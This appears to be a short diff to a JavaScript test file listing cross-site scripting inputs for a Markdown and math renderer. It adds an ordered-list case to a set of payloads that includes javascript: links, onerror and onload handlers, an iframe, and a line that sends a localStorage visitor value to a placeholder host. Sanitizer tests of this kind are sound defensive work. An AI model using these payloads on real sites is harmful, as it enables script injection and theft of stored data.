@@ -85,6 +85,7 @@ const others = [
   `$\\href{javascript:${run}}{x}$ $\\includegraphics{${out}/k}$ $\\unknown{<img src=x onerror=${run}>}$`,
   `$$\\html{<img src=x onerror=${run}>}$$`,
   `# <img src=x onerror=${run}>\n\n> <iframe src=${out}>`,
+  `123456789. far\n\n<ol start="${run}"><li>x</li></ol>\n\n1234567890. no list`,
   `- [ ] <input type=image src=${out}/task>\n- [x] done`,
   `[report.svg](data:image/svg+xml,<svg onload=${run}>) report.html`,
   `<img src=x onerror="fetch('${out}/'+localStorage.getItem('konstruct:acme:visitor'))">`,
